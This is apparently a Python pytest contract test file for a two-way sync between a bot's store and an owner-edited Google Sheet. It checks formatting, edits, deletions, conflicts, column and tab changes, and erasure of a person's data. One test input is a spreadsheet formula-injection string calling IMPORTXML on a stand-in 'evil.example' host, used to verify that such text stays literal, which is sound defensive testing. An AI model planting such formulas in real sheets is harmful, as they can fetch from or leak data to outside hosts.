"""Both directions of the sync through real gspread: the bot's rows reach the owner, the owner's edits reach the bot."""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator
from contextlib import suppress
from pathlib import Path

import pytest

from core.changes import Put, Remove
from sheets.cycle import Cadence
from tests.contract.sheets_world import ADVICE, JOURNAL, PEOPLE, WORKOUTS, World, world


@pytest.fixture
async def club(tmp_path: Path) -> AsyncIterator[World]:
    async with world(tmp_path) as one:
        yield one


async def test_a_row_of_the_bot_appears_as_the_owner_would_type_it(club: World) -> None:
    club.log_workout("r1", Дата="2026-05-12T10:30", Участник="Аня", Минуты=45.5, Заметка="")
    await club.settle()
    assert club.shown(WORKOUTS, "Дата") == ["12.05.2026 10:30"]
    assert club.shown(WORKOUTS, "Минуты") == ["45,5"]
    assert club.shown(WORKOUTS, "_id") == ["r1"]
    assert club.sync.state.queue == 0


async def test_an_edit_of_the_owner_reaches_the_bot(club: World) -> None:
    club.log_workout("r1", Участник="Аня", Минуты=45)
    await club.settle()
    club.changed.clear()
    club.owner.set(WORKOUTS, 2, "Минуты", "1 050,5")
    club.owner.set(WORKOUTS, 2, "Дата", "12.05.2026 9:00")
    await club.settle(1)
    row = club.store.row(WORKOUTS, "r1")
    assert row is not None
    assert (row.get("Минуты"), row.get("Дата")) == (1050.5, "2026-05-12T09:00")
    assert club.changed == {WORKOUTS}


async def test_a_change_of_the_bot_reaches_its_row_and_only_its_row(club: World) -> None:
    for number in range(5):
        club.log_workout(f"r{number}", Участник=f"Человек {number}", Минуты=number)
    await club.settle()
    club.owner.sort(WORKOUTS, "Минуты", descending=True)
    club.log_workout("r1", Минуты=100)
    await club.settle()
    assert club.shown(WORKOUTS, "Минуты") == ["4", "3", "2", "100", "0"]
    assert club.owner.find(WORKOUTS, "Участник", "Человек 1") == 5


async def test_a_row_typed_by_the_owner_gets_an_id_and_reaches_the_bot(club: World) -> None:
    club.owner.append_row(WORKOUTS, {"Участник": "Вера", "Минуты": "20"})
    await club.sync.once()
    (row,) = club.store.rows(WORKOUTS)
    assert (row.get("Участник"), row.get("Минуты")) == ("Вера", 20)
    assert club.shown(WORKOUTS, "_id") == [row.id]
    await club.settle()
    assert club.held(WORKOUTS, "Участник") == ["Вера"]


async def test_owner_tabs_are_read_whole_with_their_row_numbers(club: World) -> None:
    club.owner.append_row(ADVICE, {"Погода": "снег", "Рекомендация": "Шапку!"})
    club.owner.insert_row(ADVICE, 2)
    club.owner.add_tab("Книги", ["Название", "Год"])
    club.owner.append_row("Книги", {"Название": "Бег", "Год": "2010"})
    await club.settle()
    assert [(row.id, row.get("Погода")) for row in club.store.rows(ADVICE)] == [
        ("@3", "дождь"),
        ("@4", "ясно"),
        ("@5", "снег"),
    ]
    assert [row.cells for row in club.store.rows("Книги")] == [{"Название": "Бег", "Год": 2010}]
    assert club.changed >= {ADVICE, "Книги"}


async def test_deleting_rows_and_taking_it_back(club: World) -> None:
    club.log_workout("r1", Участник="Аня")
    club.log_workout("r2", Участник="Боря")
    await club.settle()
    club.owner.delete_row(WORKOUTS, 2)
    await club.sync.once()
    assert club.held(WORKOUTS, "Участник") == ["Аня", "Боря"]  # one strange answer proves nothing
    await club.sync.once()
    assert club.held(WORKOUTS, "Участник") == ["Боря"]
    club.owner.undo()
    await club.settle()
    assert club.held(WORKOUTS, "Участник") == ["Аня", "Боря"]


async def test_a_person_who_asked_to_be_forgotten_is_blanked_in_the_sheet(club: World) -> None:
    club.commit(Put(PEOPLE, "p1", {"Имя": "Аня", "Telegram": "42"}, new=True))
    club.commit(Put(PEOPLE, "p2", {"Имя": "Боря"}, new=True))
    await club.settle()
    club.commit(Remove(PEOPLE, "p1"))
    await club.settle()
    assert club.shown(PEOPLE, "Имя") == ["", "Боря"]
    assert "42" not in str(club.owner.read(PEOPLE))
    club.google.stale_reads = 1  # an old answer must not bring the person back
    await club.settle(4)
    assert club.held(PEOPLE, "Имя") == ["Боря"]


async def test_in_a_dispute_the_owner_wins_and_reads_about_it(club: World) -> None:
    club.log_workout("r1", Минуты=30)
    await club.settle()
    club.owner.set(WORKOUTS, 2, "Минуты", "50")
    club.log_workout("r1", Минуты=45)
    await club.settle()
    assert club.shown(WORKOUTS, "Минуты") == ["50"]
    assert club.held(WORKOUTS, "Минуты") == [50]
    assert "«45»" in club.problems()


async def test_texts_come_back_byte_exact(club: World) -> None:
    texts = ['=IMPORTXML("http://evil.example";"//a")', "007", "+79161234567", "1-2", "🏃‍♀️ да!", "раз\nдва", "1,5"]
    for number, text in enumerate(texts):
        club.log_workout(f"r{number}", Участник=text, Минуты=1)
    await club.settle()
    assert club.shown(WORKOUTS, "Участник") == texts
    assert club.held(WORKOUTS, "Участник") == texts
    for number, text in enumerate(reversed(texts)):
        club.log_workout(f"r{number}", Участник=text)
    await club.settle()
    assert club.shown(WORKOUTS, "Участник") == texts[::-1]
    assert club.held(WORKOUTS, "Участник") == texts[::-1]
    assert club.reports == []


async def test_texts_the_owner_types_stay_what_they_are(club: World) -> None:
    club.owner.append_row(WORKOUTS, {"Участник": "007", "Заметка": "1-2", "Минуты": "12,5"})
    await club.settle()
    (row,) = club.store.rows(WORKOUTS)
    assert (row.get("Участник"), row.get("Заметка"), row.get("Минуты")) == ("007", "1-2", 12.5)
    assert club.shown(WORKOUTS, "Участник") == ["007"]


async def test_a_mistake_keeps_the_last_good_value_and_is_shown_at_its_row(club: World) -> None:
    club.log_workout("r1", Минуты=30)
    await club.settle()
    club.owner.set(WORKOUTS, 2, "Минуты", "сорок")
    await club.settle(3)
    assert club.held(WORKOUTS, "Минуты") == [30]
    assert [where for where, _, _ in club.reports] == [f"{WORKOUTS}, строка 2, столбец «Минуты»"]
    assert club.shown(WORKOUTS, "Минуты") == ["сорок"]


async def test_the_journal_shows_the_newest_first_and_shrinks_with_the_store(club: World) -> None:
    for number in range(3):
        club.commit(Put(JOURNAL, f"j{number}", {"Что случилось": f"событие {number}"}, new=True))
        await club.sync.once()
    assert club.shown(JOURNAL, "Что случилось") == ["событие 2", "событие 1", "событие 0"]
    club.commit(Remove(JOURNAL, "j0"))
    await club.settle()
    assert club.shown(JOURNAL, "Что случилось") == ["событие 2", "событие 1"]
    writes = club.google.writes
    await club.settle()
    assert club.google.writes == writes


async def test_a_journal_that_lost_a_column_is_not_rewritten_for_ever(club: World) -> None:
    club.owner.delete_column(JOURNAL, "Что сделать")
    club.commit(Put(JOURNAL, "j1", {"Что случилось": "событие", "Что сделать": "совет"}, new=True))
    await club.settle()
    assert club.shown(JOURNAL, "Что случилось") == ["событие"]
    writes = club.google.writes
    await club.settle()
    assert club.google.writes == writes


async def test_columns_moved_added_and_misspelt(club: World) -> None:
    club.log_workout("r1", Участник="Аня", Минуты=30)
    await club.settle()
    club.owner.move_column(WORKOUTS, "Минуты", 2)
    club.owner.insert_column(WORKOUTS, 1, "Моё")
    club.owner.set(WORKOUTS, 2, "Моё", "важное")
    club.log_workout("r2", Участник="Боря", Минуты=40)
    await club.settle()
    assert club.shown(WORKOUTS, "Минуты") == ["30", "40"]
    assert club.held(WORKOUTS, "Моё") == ["важное", ""]
    club.owner.rename_header(WORKOUTS, "Минуты", "Минута")
    await club.settle()
    assert club.held(WORKOUTS, "Минуты") == [30, 40]
    assert "зато есть «Минута»" in club.problems()
    club.owner.rename_header(WORKOUTS, "Минута", "Минуты")
    await club.settle()
    assert club.held(WORKOUTS, "Минуты") == [30, 40]


async def test_a_renamed_tab_is_still_the_same_table_and_a_deleted_one_loses_nothing(club: World) -> None:
    club.owner.rename_tab(WORKOUTS, "Занятия")
    club.log_workout("r1", Участник="Аня")
    await club.settle()
    assert club.shown("Занятия", "Участник") == ["Аня"]
    assert "Занятия" not in club.store.names()
    club.owner.delete_tab("Занятия")
    await club.settle(3)
    assert club.held(WORKOUTS, "Участник") == ["Аня"]
    club.owner.undo()
    club.log_workout("r2", Участник="Боря")
    await club.settle()
    assert club.shown("Занятия", "Участник") == ["Аня", "Боря"]


async def test_a_removed_id_column_stops_the_tab_and_nothing_else(club: World) -> None:
    club.log_workout("r1", Участник="Аня")
    await club.settle()
    club.owner.delete_column(WORKOUTS, "_id")
    club.log_workout("r2", Участник="Боря")
    club.owner.append_row(ADVICE, {"Погода": "снег"})
    await club.settle(3)
    assert club.shown(WORKOUTS, "Участник") == ["Аня"]
    assert club.held(ADVICE, "Погода")[-1] == "снег"
    assert "_id" in club.problems()
    club.owner.undo()
    club.owner.undo()
    await club.settle()
    assert club.shown(WORKOUTS, "Участник") == ["Аня", "Боря"]


async def test_a_copied_row_becomes_a_row_of_its_own(club: World) -> None:
    club.log_workout("r1", Участник="Аня", Минуты=30)
    await club.settle()
    club.owner.copy_row(WORKOUTS, 2, 3)
    club.owner.set(WORKOUTS, 3, "Минуты", "60")
    await club.settle()
    ids = club.shown(WORKOUTS, "_id")
    assert ids[0] == "r1"
    assert ids[1] not in ("", "r1")
    assert club.held(WORKOUTS, "Минуты") == [30, 60]


async def test_a_recipe_known_to_both_sides_is_not_doubled(club: World) -> None:
    club.log_workout("seed", Участник="Пример", Минуты=10)
    club.owner.append_row(WORKOUTS, {"Участник": "Пример", "Минуты": "10"})
    await club.settle()
    assert club.shown(WORKOUTS, "_id") == ["seed"]
    assert club.held(WORKOUTS, "Участник") == ["Пример"]


async def test_a_wiped_id_comes_back_to_its_row(club: World) -> None:
    club.log_workout("r1", Участник="Аня", Минуты=30)
    await club.settle()
    club.owner.set(WORKOUTS, 2, "_id", "")
    await club.settle(4)
    assert club.shown(WORKOUTS, "_id") == ["r1"]
    assert club.held(WORKOUTS, "Минуты") == [30]


async def test_the_owner_wipes_a_cell_and_a_new_column_gets_the_values_it_missed(club: World) -> None:
    club.log_workout("r1", Участник="Аня", Заметка="спина")
    await club.settle()
    club.owner.set(WORKOUTS, 2, "Заметка", "")
    await club.settle()
    assert club.held(WORKOUTS, "Заметка") == [""]
    club.log_workout("r1", Любимое="бег")
    await club.settle()
    width = len(club.owner.headers(WORKOUTS))
    club.owner.set(WORKOUTS, 1, width + 1, "Любимое")
    await club.settle()
    assert club.shown(WORKOUTS, "Любимое") == ["бег"]


async def test_a_new_row_wakes_the_loop_long_before_its_turn(club: World) -> None:
    sync = club.restart(Cadence(pause=600))
    loop = asyncio.create_task(sync.run())
    try:
        await club.until(lambda: sync.state.last_success is not None)
        club.log_workout("r1", Участник="Аня")
        sync.wake()
        await club.until(lambda: club.shown(WORKOUTS, "Участник") == ["Аня"])
        lag = sync.state.lag(time.time())
        assert lag is not None
        assert lag < 600
    finally:
        loop.cancel()
        with suppress(asyncio.CancelledError):
            await loop
